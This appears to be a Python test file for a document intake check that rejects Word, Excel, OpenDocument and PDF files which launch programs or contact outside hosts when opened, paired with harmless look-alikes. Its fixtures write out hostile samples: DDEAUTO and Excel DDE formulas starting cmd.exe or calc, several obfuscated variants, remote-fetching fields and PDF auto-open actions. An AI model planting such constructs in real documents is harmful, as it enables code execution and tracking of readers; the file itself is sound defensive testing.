"""A file that tells its owner who opened it, or has something run, without anybody pressing anything in it."""

from __future__ import annotations

import os
import zlib

import pytest

from coordination.documents.content import NotTaken, take_in
from tests.documents.files import DOCX, XLSX, odt, office, pdf

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
BEGIN, SEPARATE, END = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end"))


def written(*inside: str, part: str = "word/document.xml") -> bytes:
    return office(DOCX, **{part: f"<w:document {W}><w:p>{''.join(inside)}</w:p></w:document>"})


def said(*pieces: str) -> str:
    """A field code, as Word writes it: cut into pieces wherever somebody stopped typing."""
    return "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)


def simple(code: str) -> str:
    return f'<w:fldSimple w:instr="{code}"><w:r><w:t>1</w:t></w:r></w:fldSimple>'


def sheet(formula: str, element: str = "f") -> bytes:
    return office(
        XLSX, **{"xl/worksheets/sheet1.xml": f"<worksheet><c><{element}>{formula}</{element}></c></worksheet>"}
    )


def related(what: str) -> str:
    kind = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{what}"
    return f'<Relationships><Relationship Id="r1" Type="{kind}" Target="x.xml"/></Relationships>'


def opened_with(what: bytes, **objects: bytes) -> bytes:
    """A PDF whose catalog says what happens when it is opened."""
    made = pdf().replace(b"/Type /Catalog", b"/Type /Catalog " + what)
    for number, content in objects.items():
        made = made.replace(b"xref\n", number[1:].encode() + b" 0 obj\n" + content + b"\nendobj\nxref\n", 1)
    return made


def packed(*objects: tuple[int, bytes], named: bytes = b"/ObjStm") -> bytes:
    """A PDF whose objects lie packed together, as most programs write them."""
    heading, body = b"", b""
    for number, content in objects:
        heading += b"%d %d " % (number, len(body))
        body += content + b" "
    data = zlib.compress(heading + body)
    said = b"<< /Type %b /N %d /First %d /Filter /FlateDecode >>" % (named, len(objects), len(heading))
    return opened_with(b"", o50=said + b"\nstream\n" + data + b"\nendstream")


RINGS = b"<< /S /URI /URI (https://example.org/seen) >>"
TURNS = b"<< /S /GoTo /D [3 0 R /Fit] >>"
REACHING_OUT = {
    "a program of another kind": written(BEGIN, said('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k x"'), END),
    "the same in pieces": written(BEGIN, said(" D", "DE", 'AUTO cmd "/k x"'), SEPARATE, "<w:r/>", END),
    "the same in small letters": written(BEGIN, said("dde cmd x"), END),
    "the same with signs spelt out": written(BEGIN, said("&#68;DE cmd x"), END),
    "the same inside another field": written(BEGIN, said("IF 1 = 1 "), BEGIN, said("DDEAUTO cmd x"), END, END),
    "the same after another field": written(BEGIN, said("PAGE "), END, BEGIN, said("DDEAUTO cmd x"), END),
    "the same never closed": written(BEGIN, said("DDEAUTO cmd x")),
    "the same, deleted and kept": written(BEGIN, said("DDE cmd x").replace("instrText", "delInstrText"), END),
    "the same in one piece": written(simple("DDEAUTO cmd x")),
    "the same in a footer": written(BEGIN, said("DDE cmd x"), END, part="word/footer1.xml"),
    "the same under a name of its own": office(
        DOCX,
        **{
            "[Content_Types].xml": f'<Types><Override PartName="/main.xml" ContentType="{DOCX}"/>'
            '<Override PartName="/word/notes.txt" ContentType="application/x.footnotes+xml"/></Types>',
            "word/notes.txt": f"<w:p {W}>{BEGIN}{said('DDE cmd x')}{END}</w:p>",
        },
    ),
    "a picture from a page": written(simple("INCLUDEPICTURE &quot;https://example.org/seen.png&quot; \\d")),
    "a chapter from a server": written(BEGIN, said("INCLUDETEXT ", '"\\\\\\\\example.org\\\\a.docx"'), END),
    "a drawing from a page": written('<v:imagedata xmlns:v="urn:v" src="https://example.org/seen.png"/>'),
    "addresses from a database": office(
        DOCX, **{"word/settings.xml": f'<w:settings {W}><w:mailMerge><w:query w:val="x"/></w:mailMerge></w:settings>'}
    ),
    "a cell that starts a program": sheet("cmd|'/C calc'!A0"),
    "a cell that asks a page": sheet('_xlfn.WEBSERVICE("https://example.org/" &amp; A1)'),
    "a cell with a picture from a page": sheet('_xlfn.IMAGE("https://example.org/seen.png")'),
    "a cell that looks into another file": sheet("'\\\\example.org\\[a.xlsx]Sheet1'!A1"),
    "a name that starts a program": sheet("cmd|'/C calc'!A0", "definedName"),
    "a colour that asks a page": sheet('WEBSERVICE("https://example.org/")', "formula"),
    "a workbook that asks a database": office(XLSX, **{"xl/_rels/workbook.xml.rels": related("connections")}),
    "a sheet that asks a page": office(XLSX, **{"xl/worksheets/_rels/sheet1.xml.rels": related("queryTable")}),
    "an OpenDocument that asks another program": odt(
        **{"content.xml": '<o><dde-source dde-application="soffice" dde-topic="x"/></o>'}
    ),
    "an OpenDocument that another page takes the place of": odt(
        **{"meta.xml": '<o xmlns:x="l"><auto-reload x:href="https://example.org/" delay="PT0S"/></o>'}
    ),
    "a PDF that asks a page": opened_with(b"/OpenAction " + RINGS),
    "a PDF that asks a page by its number": opened_with(b"/OpenAction 98 0 R", o98=RINGS),
    "a PDF that asks a page, spelt out": opened_with(b"/Open#41ction " + RINGS),
    "a PDF that asks a page after turning one": opened_with(b"/OpenAction " + TURNS[:-2] + b" /Next " + RINGS + b">>"),
    "a PDF that asks when a page is turned": opened_with(b"/AA << /O " + RINGS + b" >>"),
    "a PDF with a program packed away": packed((60, b"<< /S /JavaScript /JS (x) >>")),
    "a PDF with one packed away, spelt out": packed((60, b"<< /S /JavaScript /JS (x) >>"), named=b"/Obj#53tm"),
    "a PDF that asks a page, packed away": packed((60, RINGS), (61, b"<< /OpenAction 60 0 R >>")),
}
HARMLESS = {
    "numbers of pages": written(BEGIN, said("PAGE  \\* MERGEFORMAT"), SEPARATE, END, simple("DATE \\@ d.M.yyyy")),
    "a list of contents": written(BEGIN, said("TOC \\o ", "&quot;1-3&quot;"), END),
    "a link": written(BEGIN, said('HYPERLINK "https://example.org/dde"'), SEPARATE, END),
    "words about it": written("<w:r><w:t>DDEAUTO is a field code, and |x| a number.</w:t></w:r>"),
    "a fraction": written("<m:f><m:num><m:r><m:t>|x|</m:t></m:r></m:num></m:f>"),
    "a drawing inside": written('<v:imagedata xmlns:v="urn:v" src="image1.png"/>'),
    "a drawing in lines": office(
        DOCX, **{"word/media/image1.svg": '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x"><svg/>'}
    ),
    "sums": sheet("SUM('Week 1'!A1:A9) &amp; \"a|b IMAGE(x)\""),
    "a chart's range": sheet("'What is new?'!$A$1"),
    "where an OpenDocument was made": odt(
        **{"meta.xml": '<o xmlns:x="l"><template x:href="../../Templates/letter.ott"/></o>'}
    ),
    "a page to begin with": opened_with(b"/OpenAction [3 0 R /XYZ null null 0]"),
    "a page to begin with, by its number": opened_with(b"/OpenAction 98 0 R", o98=TURNS),
    "a page to begin with, packed away, and links": packed((60, TURNS), (61, b"<< /OpenAction 60 0 R >>"), (62, RINGS)),
}


@pytest.mark.parametrize("what", REACHING_OUT)
def test_a_file_that_reaches_out_as_it_is_opened_is_not_taken(what: str) -> None:
    with pytest.raises(NotTaken) as no:
        take_in(REACHING_OUT[what])
    assert len(str(no.value).split(". ")) >= 2, "the sentence says what to do"


@pytest.mark.parametrize("what", HARMLESS)
def test_what_somebody_has_to_press_and_what_stays_inside_is_taken(what: str) -> None:
    take_in(HARMLESS[what])


def remembered(printer: str) -> bytes:
    """A workbook as Excel saves it, with the settings of a printer beside its sheet."""
    settings = printer.ljust(32, "\0").encode("utf-16-le") + b"\x01\x04\0\x06\xdc\0\x98\x07\x03\xaf" + bytes(900)
    return office(
        XLSX,
        **{
            "xl/printerSettings/printerSettings1.bin": settings,
            "xl/worksheets/_rels/sheet1.xml.rels": related("printerSettings"),
        },
    )


@pytest.mark.parametrize("printer", ["HP LaserJet 4.2", "\\\\PRINTSRV01\\Floor 3, room 3.12", "Microsoft Print to PDF"])
def test_a_workbook_that_remembers_a_printer_of_its_own_network_is_taken(printer: str) -> None:
    assert take_in(remembered(printer)).kind.code == "xlsx"


@pytest.mark.parametrize(
    "printer", ["\\\\example.org\\p", "\\\\192.0.2.7\\p", "\\\\e@80\\p", "https://example.org/ipp"]
)
def test_one_that_may_lie_anywhere_is_not_and_the_sentence_says_which_menu_to_open(printer: str) -> None:
    with pytest.raises(NotTaken, match=r"Choose another printer under File, Print"):
        take_in(remembered(printer))


def test_what_is_called_like_printer_settings_in_another_place_is_not_taken() -> None:
    with pytest.raises(NotTaken, match="macros or another file"):
        take_in(office(DOCX, **{"word/printerSettings1.bin": b"x"}))


def test_a_scanned_page_is_never_refused_for_what_its_points_happen_to_spell() -> None:
    points = os.urandom(200_000) + b"/JS(/AA /XFA[" + os.urandom(200_000)
    scan = b"<< /Subtype /Image /Filter /DCTDecode >>\nstream\n" + points + b"\nendstream"
    assert take_in(opened_with(b"", o98=scan)).kind.code == "pdf"
